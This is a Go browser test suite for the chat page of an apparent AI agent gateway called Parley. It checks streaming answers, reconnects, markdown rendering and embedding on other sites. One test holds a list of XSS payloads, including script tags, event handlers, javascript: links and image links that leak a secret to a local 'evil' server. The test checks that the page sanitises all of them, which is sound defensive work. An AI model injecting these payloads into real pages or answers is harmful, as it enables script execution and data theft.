package web_test

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/cdproto/input"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"parley/connectors/web"
	"parley/core"
)

// patience is after how long a test gives up.
const patience = 30 * time.Second

// helpers are for the tests' own scripts: all() looks into shadow roots too, and shown() is what a person reads.
const helpers = `
window.all = (selector, root = document) => [...root.querySelectorAll(selector),
  ...[...root.querySelectorAll('*')].flatMap((node) => node.shadowRoot ? all(selector, node.shadowRoot) : [])];
window.shown = (selector) => all(selector).map((node) => node.innerText).join('\n');
`

// browser starts one Chromium for all tests below t.
func browser(t *testing.T) context.Context {
	t.Helper()
	path, err := exec.LookPath("chromium")
	if err != nil {
		t.Skip("SKIPPED: no chromium in PATH; the chat page was not tried in a browser")
	}
	options := append(chromedp.DefaultExecAllocatorOptions[:], chromedp.ExecPath(path), chromedp.NoSandbox, chromedp.DisableGPU,
		chromedp.UserDataDir(t.TempDir()), chromedp.WindowSize(1200, 800))
	ctx, cancel := chromedp.NewExecAllocator(context.Background(), options...)
	t.Cleanup(cancel)
	ctx, cancel = chromedp.NewContext(ctx)
	t.Cleanup(cancel)
	if err := chromedp.Do(ctx, chromedp.Navigate("about:blank")); err != nil {
		t.Fatal(err)
	}
	return ctx
}

// tab is one page with a storage of its own.
type tab struct {
	t   *testing.T
	ctx context.Context

	mu       sync.Mutex
	problems []string
	offline  bool // failed requests are expected
}

func newTab(t *testing.T, browser context.Context) *tab {
	t.Helper()
	ctx, cancel := chromedp.NewContext(browser, chromedp.WithNewBrowserContext())
	p := &tab{t: t, ctx: ctx}
	p.do(chromedp.EmulateViewport(1200, 800))
	p.media("light")
	p.before(helpers)
	var listening sync.WaitGroup
	messages := chromedp.Console(ctx)
	listening.Go(func() {
		for m, err := range messages {
			if err != nil {
				return
			}
			if m.Type == chromedp.ConsoleError || m.Type == chromedp.ConsoleWarning || m.IsException() {
				p.mu.Lock()
				if !p.offline || m.Source != "network" && !strings.Contains(m.Text, "blocked by CORS policy") {
					p.problems = append(p.problems, m.Source+" "+m.String())
				}
				p.mu.Unlock()
			}
		}
	})
	t.Cleanup(func() {
		if t.Failed() {
			p.shot("failed-" + strings.ReplaceAll(t.Name(), "/", "-"))
		}
		cancel()
		listening.Wait()
		for _, problem := range p.problems {
			t.Errorf("the console says: %s", problem)
		}
	})
	return p
}

func (p *tab) do(steps ...chromedp.Action[chromedp.Void]) {
	p.t.Helper()
	if err := chromedp.Do(p.ctx, steps...); err != nil {
		p.t.Fatal(err)
	}
}

// before runs a script before those of every page.
func (p *tab) before(script string) {
	p.t.Helper()
	_, err := chromedp.Call(p.ctx, page.AddScriptToEvaluateOnNewDocument, page.AddScriptToEvaluateOnNewDocumentParams{Source: script})
	if err != nil {
		p.t.Fatal(err)
	}
}

func (p *tab) media(scheme string) {
	p.t.Helper()
	_, err := chromedp.Call(p.ctx, emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{Features: []*emulation.MediaFeature{
		{Name: "prefers-color-scheme", Value: scheme}, {Name: "prefers-reduced-motion", Value: "reduce"},
	}})
	if err != nil {
		p.t.Fatal(err)
	}
}

// wait returns when a script's value is true.
func (p *tab) wait(script string) {
	p.t.Helper()
	_, err := chromedp.Run(p.ctx, chromedp.Poll[bool]("Boolean("+script+")", chromedp.WithPollingTimeout(patience)))
	if err != nil {
		all, _ := chromedp.Run(p.ctx, chromedp.Evaluate[string](`shown('.chat')`))
		p.t.Fatalf("%s never became true: %v\nthe page shows:\n%s", script, err, all)
	}
}

// shows waits until the element holds the text.
func (p *tab) shows(selector, text string) {
	p.t.Helper()
	p.wait(fmt.Sprintf("shown(%q).includes(%q)", selector, text))
}

func (p *tab) eval(script string) string {
	p.t.Helper()
	v, err := chromedp.Run(p.ctx, chromedp.Evaluate[string]("String("+script+")"))
	if err != nil {
		p.t.Fatalf("%s: %v", script, err)
	}
	return v
}

func (p *tab) is(script, want string) {
	p.t.Helper()
	if got := p.eval(script); got != want {
		p.t.Errorf("%s = %q, want %q", script, got, want)
	}
}

// open loads a page with a chat in it.
func (p *tab) open(url string) {
	p.t.Helper()
	p.do(chromedp.Navigate(url))
	p.wait(`all('textarea').length && !all('.chat')[0].hidden && (all('.message').length || !all('.empty')[0].hidden)`)
}

// write types into the chat, without sending it.
func (p *tab) write(text string) {
	p.t.Helper()
	p.eval(`all('textarea')[0].focus()`)
	if _, err := chromedp.Call(p.ctx, input.InsertText, input.InsertTextParams{Text: text}); err != nil {
		p.t.Fatal(err)
	}
}

// press presses a key as a person does: a page that refuses it gets no character.
func (p *tab) press(key, text string, shift bool) {
	p.t.Helper()
	e := input.DispatchKeyEventParams{Type: input.DispatchKeyEventTypeKeyDown, Key: key, Code: key, Text: text}
	if shift {
		e.Modifiers = int64(chromedp.ModifierShift)
	}
	if key == "Enter" {
		e.WindowsVirtualKeyCode = 13
	}
	up := e
	up.Type, up.Text = input.DispatchKeyEventTypeKeyUp, ""
	for _, e := range []input.DispatchKeyEventParams{e, up} {
		if _, err := chromedp.Call(p.ctx, input.DispatchKeyEvent, e); err != nil {
			p.t.Fatal(err)
		}
	}
}

func (p *tab) enter() { p.t.Helper(); p.press("Enter", "\r", false) }

func (p *tab) send(text string) { p.t.Helper(); p.write(text); p.enter() }

func (p *tab) click(selector string) {
	p.t.Helper()
	p.eval(fmt.Sprintf(`all(%q)[0].click()`, selector))
}

// shot keeps a picture for whoever wants to see the page.
func (p *tab) shot(name string) {
	dir := os.Getenv("PARLEY_ARTIFACTS")
	if dir == "" {
		return
	}
	png, err := chromedp.Run(p.ctx, chromedp.CaptureScreenshot())
	if err == nil {
		err = os.MkdirAll(dir, 0o755)
	}
	if err == nil {
		err = os.WriteFile(filepath.Join(dir, name+".png"), png, 0o644)
	}
	if err != nil {
		p.t.Logf("no picture %s: %v", name, err)
	}
}

// shots keeps pictures of the page as it is, light and dark, on a desktop and on a phone.
func (p *tab) shots(name string) {
	if os.Getenv("PARLEY_ARTIFACTS") == "" {
		return
	}
	p.shot(name + "-light")
	p.media("dark")
	p.shot(name + "-dark")
	p.do(chromedp.EmulateViewport(390, 844))
	p.shot(name + "-phone-dark")
	p.media("light")
	p.shot(name + "-phone")
	p.do(chromedp.EmulateViewport(1200, 800))
}

var completed = core.Outcome{Status: core.Completed}

func TestBrowser(t *testing.T) {
	ctx := browser(t)
	for name, play := range map[string]func(*testing.T, *gateway, *tab){
		"a conversation": playConversation,
		"stop":           playStop,
		"failure":        playFailure,
		"superseded":     playSuperseded,
		"keys":           playKeys,
		"new chat":       playNewChat,
		"gone":           playGone,
		"hostile text":   playHostile,
		"cut line":       playCut,
		"silent line":    playSilent,
		"reload":         playReload,
		"scrolling":      playScrolling,
		"markdown":       playMarkdown,
	} {
		t.Run(name, func(t *testing.T) {
			g := start(t, newBackend(), listen(t, "127.0.0.1:0"), nil)
			play(t, g, newTab(t, ctx))
		})
	}
	t.Run("too much", func(t *testing.T) { playTooMuch(t, newTab(t, ctx)) })
	t.Run("restart", func(t *testing.T) { playRestart(t, newTab(t, ctx)) })
	t.Run("embedded", func(t *testing.T) { playEmbedded(t, newTab(t, ctx)) })
	t.Run("embedded where it may not be", func(t *testing.T) { playForbidden(t, newTab(t, ctx)) })
}

const told = "Here is what I did, in [three steps](https://example.org/):\n\n1. **Read** the request\n2. Ran `PLAY_DEMO`\n3. ~~Waited~~ Wrote this\n\n" +
	"```go\nfunc main() {\n\tfmt.Println(\"Hello, Parley\")\n}\n```\n\n| Step | Time |\n|---|--:|\n| Think | 0.8 s |\n| Act | 2.4 s |\n"

func playConversation(t *testing.T, g *gateway, p *tab) {
	p.open(g.url)
	p.shows("h2", "Hello, I’m Parley.")
	p.is(`all('.chip').map((chip) => chip.innerText).join()`, "What can you do?,Show me progress,Roll a die")
	p.is(`all('textarea')[0].getRootNode().activeElement === all('textarea')[0]`, "true")
	p.shots("empty")
	p.click(".chip:nth-child(2)")
	r := g.next(t)
	p.shows(".question", "Show me progress")
	p.shows(".status", "Thinking…")
	r.say("Let me ")
	p.shows(".answer .text", "Let me")
	r.say("show you.")
	p.shows(".answer .text", "Let me show you.")
	p.eval(`window.first = all('.answer .text p')[0]`)
	r.tool("1", core.Tool{Name: "PLAY_DEMO", Stage: core.StageStart})
	r.tool("1", core.Tool{Name: "PLAY_DEMO", Stage: core.StageStreaming, ParametersChunk: `{"track":`})
	p.wait(`all('.tool dd')[0]?.textContent === '{"track":'`)
	r.tool("1", core.Tool{Name: "PLAY_DEMO", Stage: core.StageRunning, Parameters: `{"track":"Dunes"}`})
	p.shows(".status", "Running PLAY_DEMO…")
	r.callback("1", "Looking up the track…")
	p.shows(".answer .text", "Looking up the track…")
	p.shots("streaming")
	r.callback("1", "Now playing **Dunes**")
	p.wait(`shown('.answer .text strong') === 'Dunes'`)
	p.is(`shown('.answer .text').includes('Looking')`, "false")
	p.is(`all('.answer .text p').length`, "2")
	r.tool("1", core.Tool{Name: "PLAY_DEMO", Stage: core.StageEnd, Parameters: `{"track":"Dunes"}`, Result: `{"seconds":2.4}`, ShortResult: "done in 2.4 s", Success: true})
	p.shows(".tool summary", "done in 2.4 s")
	p.is(`all('.tool')[0].open`, "false")
	for part := range strings.SplitAfterSeq(told, " ") {
		r.Apply(core.Change{Kind: core.Text, Step: 1, Text: part})
	}
	r.finish(completed, "")
	p.wait(`all('.answer [aria-label="Copy the answer"]').length === 1`)
	p.wait(`all('.status').every((line) => line.hidden) && all('.stop')[0].hidden`)
	p.is(`shown('.answer pre')`, "func main() {\n\tfmt.Println(\"Hello, Parley\")\n}")
	p.is(`shown('.code-head')`, "go")
	p.is(`all('.answer a')[0].rel`, "noopener noreferrer")
	p.shots("done")
	p.wait(`(all('.code-head .icon')[0].click(), true)`)
	p.wait(`all('.code-head .icon')[0].getAttribute('aria-label') === 'Copied'`)
	p.is(`all('.tool')[0].open = true`, "true")
	p.is(`JSON.parse(all('.tool dd')[0].innerText).track`, "Dunes")

	p.do(chromedp.Reload())
	p.wait(`all('.answer').length === 1`)
	p.shows(".answer .text", "Now playing Dunes")
	p.shows(".trail summary", "2 steps")
	p.is(`all('.trail')[0].open`, "false")
	p.is(`all('.trail li').map((line) => line.textContent).join('|')`, "Looking up the track…|Now playing **Dunes**")
	p.is(`all('.question').length`, "1")
	p.shots("reloaded")
}

func playStop(t *testing.T, g *gateway, p *tab) {
	p.open(g.url)
	p.send("a long story")
	r := g.next(t)
	r.say("Once upon a time")
	p.shows(".answer .text", "Once upon a time")
	p.click(".stop")
	p.shows(".note", "Stopped.")
	p.is(`shown('.answer .text')`, "Once upon a time")
	p.wait(`all('.stop')[0].hidden`)
	if got := r.View().Outcome.Status; got != core.Stopped {
		t.Errorf("the answer ended %q", got)
	}
	p.do(chromedp.Reload())
	p.wait(`shown('.note') === 'Stopped.' && shown('.answer .text') === 'Once upon a time'`)
}

func playFailure(t *testing.T, g *gateway, p *tab) {
	p.open(g.url)
	p.send("hello")
	g.next(t).finish(core.Outcome{Status: core.Failed, Failure: core.RateLimited}, core.RateLimited.Sentence())
	p.shows(".failed .text", "The model is busy right now.")
	p.shots("failed")
	p.click(".retry")
	r := g.next(t)
	if r.question.Text != "hello" {
		t.Errorf("tried again with %q", r.question.Text)
	}
	r.say("Now it works.")
	r.finish(completed, "")
	p.shows(".answer:last-child .text", "Now it works.")
}

func playSuperseded(t *testing.T, g *gateway, p *tab) {
	p.open(g.url)
	p.send("first")
	p.send("second")
	old, later := g.next(t), g.next(t)
	if old.question.Text != "first" || old.question.Room != later.question.Room {
		t.Errorf("%q in %s came first, %q in %s second", old.question.Text, old.question.Room, later.question.Text, later.question.Room)
	}
	p.is(`all('.answer').length`, "2")
	old.End(core.Outcome{Status: core.Superseded, Withdrawn: true})
	p.shows(".note", "Your newer message is answered instead.")
	later.say("Both.")
	later.finish(completed, "")
	p.shows(".answer:last-child .text", "Both.")
}

func playKeys(t *testing.T, g *gateway, p *tab) {
	p.open(g.url)
	p.write("one")
	p.press("Enter", "\r", true)
	p.write("two")
	p.eval(`all('textarea')[0].dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', isComposing: true, bubbles: true, cancelable: true }))`)
	p.is(`all('.question').length`, "0")
	p.is(`all('textarea')[0].value`, "one\ntwo")
	p.enter()
	if r := g.next(t); r.question.Text != "one\ntwo" {
		t.Errorf("sent %q", r.question.Text)
	}
	p.is(`all('textarea')[0].value`, "")
	p.enter() // nothing written, nothing sent
	p.is(`all('.question').length`, "1")
}

func playNewChat(t *testing.T, g *gateway, p *tab) {
	p.open(g.url)
	p.send("one")
	r := g.next(t)
	r.say("Yes.")
	p.shows(".answer .text", "Yes.")
	p.click(`[aria-label="New chat"]`)
	p.wait(`!all('.empty')[0].hidden && all('.message').length === 0`)
	<-r.Ended() // nobody reads on
	p.send("two")
	if again := g.next(t); again.question.Room == r.question.Room {
		t.Error("the new chat is the old conversation")
	}
}

func playGone(t *testing.T, g *gateway, p *tab) {
	p.offline = true
	p.open(g.url)
	p.send("one")
	g.next(t).finish(completed, "Yes.")
	p.shows(".answer .text", "Yes.")
	g.forget()
	p.send("two")
	p.shows(".notice", "This conversation is gone.")
	p.is(`all('textarea')[0].value`, "two")
	p.is(`all('.message').length`, "0")
	p.enter()
	if r := g.next(t); r.question.Text != "two" {
		t.Errorf("sent %q", r.question.Text)
	}
	g.forget()
	p.do(chromedp.Reload())
	p.wait(`all('.empty').length && !all('.empty')[0].hidden && !all('.chat')[0].hidden`)
}

// SE-06: nothing that an answer holds runs, or loads anything.
func playHostile(t *testing.T, g *gateway, p *tab) {
	var loaded atomic.Int64
	evil := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { loaded.Add(1) }))
	t.Cleanup(evil.Close)
	corpus := []string{
		"<script>pwned()</script>", "<img src=x onerror=pwned()>", "<svg onload=pwned()>", "<iframe src=EVIL></iframe>",
		"<style>@import 'EVIL'</style>", "<a href=javascript:pwned()>x</a>", "[x](javascript:pwned())", "[x](JaVaScRiPt:pwned())",
		"[x](java\tscript:pwned())", "[x](\x01javascript:pwned())", "[x](data:text/html,<script>pwned()</script>)", "[x](vbscript:pwned())",
		"<javascript:pwned()>", "![secret](EVIL?q=secret)", "![](EVIL?q=secret)", "[![x](EVIL?q=1)](EVIL?q=2)", "![x](data:image/svg+xml,<svg onload=pwned()>)",
		"```<img src=x onerror=pwned()>\n<script>pwned()</script>\n```", "| <img src=EVIL> |\n|---|\n| <img src=x onerror=pwned()> |",
		"[x](/relative)", "[x](//EVIL)", "<link rel=prefetch href=EVIL>", "[x](https://ok.example/\" onclick=\"pwned())", "**<b onclick=pwned()>**",
	}
	p.before(`window.pwned = () => { window.wasPwned = true; };`)
	p.open(g.url)
	p.send("<img src=x onerror=pwned()>")
	r := g.next(t)
	text := strings.ReplaceAll(strings.Join(corpus, "\n\n"), "EVIL", evil.URL)
	r.callback("1", text)
	r.tool("1", core.Tool{Name: "<img src=x onerror=pwned()>", Stage: core.StageEnd, Result: text, Error: text})
	for i := 0; i < len(text); i += 7 {
		r.say(text[i:min(i+7, len(text))])
	}
	r.finish(completed, "")
	p.wait(`all('.answer [aria-label="Copy the answer"]').length === 1`)
	check := func() {
		t.Helper()
		p.is(`window.wasPwned`, "undefined")
		p.is(`all('.message :is(img, script, iframe, style, link, object, embed, form)').length`, "0")
		p.is(`all('.message *').flatMap((node) => node.getAttributeNames()).filter((name) => name.startsWith('on') || name === 'src' || name === 'style').join()`, "")
		p.is(`all('.message a').filter((a) => !/^(https?|mailto):$/.test(a.protocol) || a.origin === location.origin || a.rel !== 'noopener noreferrer').length`, "0")
	}
	check()
	p.is(`all('.message a').length > 0`, "true")
	p.do(chromedp.Reload())
	p.wait(`all('.answer').length === 1`)
	check()
	if n := loaded.Load(); n != 0 {
		t.Errorf("%d requests went to a foreign site", n)
	}
}

// The line is cut, and the same answer goes on (WB-05, WB-06).
func playCut(t *testing.T, g *gateway, p *tab) {
	p.offline = true
	p.open(g.url)
	p.send("go")
	r := g.next(t)
	r.tool("1", core.Tool{Name: "T", Stage: core.StageStart})
	r.tool("1", core.Tool{Name: "T", Stage: core.StageStreaming, ParametersChunk: `[1,`})
	r.say("one ")
	p.shows(".answer .text", "one")
	g.tap.cut()
	p.shows(".status", "Reconnecting…")
	r.say("two ")
	p.wait(`shown('.answer .text').trim() === 'one two'`)
	p.is(`all('.tool dd')[0].textContent`, "[1,")
	r.say("three")
	r.finish(completed, "")
	p.wait(`shown('.answer .text').trim() === 'one two three' && all('.stop')[0].hidden`)
	p.is(`all('.question').length`, "1")
}

// A line that is dead but open is given up after 45 s without a byte (WB-09). The page's clock runs faster here.
func playSilent(t *testing.T, g *gateway, p *tab) {
	p.offline = true
	p.before(`
		const later = setTimeout;
		window.setTimeout = (f, ms, ...rest) => later(f, ms === 45000 ? 400 : ms, ...rest);
		const ask = fetch;
		let asked = 0;
		window.fetch = async (url, options) => {
			const response = await ask(url, options);
			if (!String(url).endsWith('/stream') || ++asked > 1) return response;
			return new Response(new ReadableStream({ start(c) { options.signal.addEventListener('abort', () => c.error(options.signal.reason)); } }));
		};`)
	p.open(g.url)
	p.send("go")
	r := g.next(t)
	r.say("There you are.")
	r.finish(completed, "")
	p.shows(".answer .text", "There you are.")
}

// A reload while an answer is written joins it.
func playReload(t *testing.T, g *gateway, p *tab) {
	p.open(g.url)
	p.send("go")
	r := g.next(t)
	r.say("Half")
	p.shows(".answer .text", "Half")
	p.do(chromedp.Reload())
	p.wait(`all('.answer .text').length && shown('.answer .text') === 'Half'`)
	p.is(`all('.question').length`, "1")
	r.say(" and half.")
	r.finish(completed, "")
	p.wait(`shown('.answer .text') === 'Half and half.' && all('.stop')[0].hidden`)
	if len(g.asked) != 0 {
		t.Error("the reload asked again")
	}
}

func playScrolling(t *testing.T, g *gateway, p *tab) {
	p.open(g.url)
	p.send("go")
	r := g.next(t)
	atEnd := `(() => { const s = all('.scroller')[0]; return s.scrollHeight - s.scrollTop - s.clientHeight < 48; })()`
	for i := range 60 {
		r.say(fmt.Sprintf("Line %d.\n\n", i))
	}
	p.shows(".answer .text", "Line 59.")
	p.wait(atEnd)
	p.eval(`all('.scroller')[0].scrollTop = 0`)
	p.wait(`!all('.latest')[0].hidden`)
	r.say("More.")
	p.shows(".answer .text", "More.")
	p.is(`all('.scroller')[0].scrollTop`, "0")
	p.click(".latest")
	p.wait(atEnd)
	r.finish(completed, "")
}

// Text in pieces ends as the same page as text in one piece, and what is closed is not drawn again (ST-20).
func playMarkdown(_ *testing.T, g *gateway, p *tab) {
	p.open(g.url)
	p.eval(`import('/markdown.js').then(({ Markdown }) => { window.Markdown = Markdown; })`)
	p.wait(`window.Markdown`)
	texts, err := os.ReadFile(filepath.Join("testdata", "markdown.md"))
	if err != nil {
		p.t.Fatal(err)
	}
	p.eval(fmt.Sprintf(`window.texts = %q.split('\n=====\n')`, string(texts)+told))
	p.is(`(() => {
		const draw = (steps) => {
			const root = document.createElement('div');
			const markdown = new Markdown(root);
			for (const step of steps) { markdown.append(step); markdown.draw(false); }
			markdown.draw(true);
			return root.innerHTML;
		};
		const wrong = texts.filter((text) => draw([...text]) !== draw([text]) || draw(text.split(/(?<=\n)/)) !== draw([text]));
		return wrong.join('\n-----\n');
	})()`, "")
	p.is(`(() => {
		const root = document.createElement('div');
		const markdown = new Markdown(root);
		for (const text of texts) { markdown.replace(text); markdown.draw(false); }
		const one = document.createElement('div');
		const whole = new Markdown(one);
		whole.append(texts.at(-1)); whole.draw(false);
		return root.innerHTML === one.innerHTML;
	})()`, "true")
	p.is(`(() => {
		const root = document.createElement('div');
		const markdown = new Markdown(root);
		markdown.append('first\n\n'); markdown.append('second\n\nthird'); markdown.draw(false);
		const first = root.firstChild;
		let drawn = 0;
		for (let i = 0; i < 50000; i++) {
			markdown.append(i % 50 ? 'word ' : '\n\n');
			if (i % 100 === 0) { markdown.draw(false); drawn++; }
		}
		markdown.draw(true);
		return [root.firstChild === first, root.children.length > 900].join();
	})()`, "true,true")
}

func playTooMuch(t *testing.T, p *tab) {
	p.offline = true
	g := start(t, newBackend(), listen(t, "127.0.0.1:0"), func(o *web.Options) { o.Limits.MessagesPerMinute = 1 })
	p.open(g.url)
	p.send("one")
	g.next(t).finish(completed, "Yes.")
	p.shows(".answer .text", "Yes.")
	p.send("two")
	p.shows(".notice", "Please wait a moment.")
	p.wait(`/\(\d+ s\)/.test(shown('.notice'))`)
	p.is(`all('textarea')[0].value`, "two")
	p.is(`all('.question').length`, "1")
}

// The gateway stops and another takes over: the stream ends with a hint, and the page comes back (WB-08, WB-10).
func playRestart(t *testing.T, p *tab) {
	p.offline = true
	b := newBackend()
	l := listen(t, "127.0.0.1:0")
	g := start(t, b, l, nil)
	p.open(g.url)
	p.send("go")
	r := g.next(t)
	r.say("Before")
	p.shows(".answer .text", "Before")
	g.stop()
	p.shows(".status", "Reconnecting…")
	start(t, b, listen(t, l.Addr().String()), nil)
	r.say(" and after.")
	r.finish(completed, "")
	p.shows(".answer .text", "Before and after.")
}

// site is a page of somebody else's that holds the chat.
func site(t *testing.T, script string) string {
	t.Helper()
	s := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" {
			rw.WriteHeader(http.StatusNoContent)
			return
		}
		_, _ = fmt.Fprintf(rw, "<!doctype html><title>Shop</title><style>* { color: red; text-transform: uppercase }</style><h1>A shop</h1>"+
			"<p>It sells things.</p><script src=%q data-agent=Ada></script>", script)
	}))
	t.Cleanup(s.Close)
	return s.URL
}

func playEmbedded(t *testing.T, p *tab) {
	l := listen(t, "127.0.0.1:0")
	shop := site(t, "http://"+l.Addr().String()+"/widget.js")
	g := start(t, newBackend(), l, func(o *web.Options) { o.Origins = []string{shop} })
	p.do(chromedp.Navigate(shop))
	p.wait(`all('.launcher').length && !all('.bubble')[0].hidden`)
	p.is(`all('.launcher')[0].getAttribute('aria-label')`, "Chat with Ada")
	p.click(".launcher")
	p.wait(`all('.empty').length && !all('.empty')[0].hidden && !all('.chat')[0].hidden`)
	p.send("hello")
	r := g.next(t)
	r.say("Welcome to the shop. What are you looking for?")
	p.shows(".answer .text", "Welcome to the shop.")
	p.shots("embedded")
	p.press("Escape", "", false)
	p.wait(`all('.panel')[0].hidden`)
	p.is(`all('.launcher')[0].getRootNode().activeElement === all('.launcher')[0]`, "true")
	r.finish(completed, "")
	p.wait(`all('.launcher.unread').length`)
	p.click(".launcher")
	p.wait(`!all('.panel')[0].hidden && !all('.launcher.unread').length`)
	p.do(chromedp.Reload())
	p.wait(`all('.launcher').length && !all('.bubble')[0].hidden`)
	p.click(".launcher")
	p.shows(".answer .text", "Welcome to the shop.")
}

func playForbidden(t *testing.T, p *tab) {
	p.offline = true
	l := listen(t, "127.0.0.1:0")
	shop := site(t, "http://"+l.Addr().String()+"/widget.js")
	g := start(t, newBackend(), l, func(o *web.Options) { o.Origins = []string{"https://another.example"} })
	p.do(chromedp.Navigate(shop))
	p.wait(`all('.launcher').length && !all('.bubble')[0].hidden`)
	p.click(".launcher")
	p.wait(`all('.empty').length && !all('.empty')[0].hidden && !all('.chat')[0].hidden`)
	p.send("hello")
	p.shows(".status", "Reconnecting…")
	p.shows(".status", "can’t be reached")
	if len(g.asked) != 0 {
		t.Error("a site that is not listed reached the agent")
	}
}
